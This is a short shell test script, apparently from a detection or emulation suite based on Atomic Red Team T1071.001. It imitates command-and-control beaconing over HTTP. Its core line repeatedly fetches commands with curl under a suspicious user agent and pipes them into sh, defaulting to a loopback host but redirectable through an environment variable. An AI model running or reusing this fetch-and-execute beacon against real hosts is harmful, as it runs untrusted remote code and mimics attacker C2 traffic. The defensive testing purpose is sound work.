#!/bin/sh
# case: T1071.001-beacon
# technique: Commands fetched again and again over HTTP
# source: redcanaryco/atomic-red-team T1071.001-3 Malicious User Agents - Nix
# needs: curl
# expect: net exec
# where: container
# image: debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
need curl
i=0; while [ $i -lt 4 ]; do curl -s -m 2 -A 'Mozilla/5.0 (compatible; HttpBrowser/1.0)' "http://${HO_SINK:-127.0.0.1:8099}/tasks/next" | sh >/dev/null 2>&1; sleep 1; i=$((i+1)); done; true
exit 0
